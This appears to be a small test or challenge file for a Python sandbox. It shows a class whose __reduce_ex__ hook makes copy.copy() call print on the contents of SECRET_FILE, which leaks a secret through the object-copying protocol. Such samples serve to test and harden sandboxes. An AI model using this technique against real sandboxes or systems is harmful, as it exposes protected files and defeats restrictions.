"""
goal: have copy call a function of the attacker's choice
effect: leak
"""

import copy


class Bomb:
    def __reduce_ex__(self, protocol):
        return print, (open(SECRET_FILE).read(),)


copy.copy(Bomb())
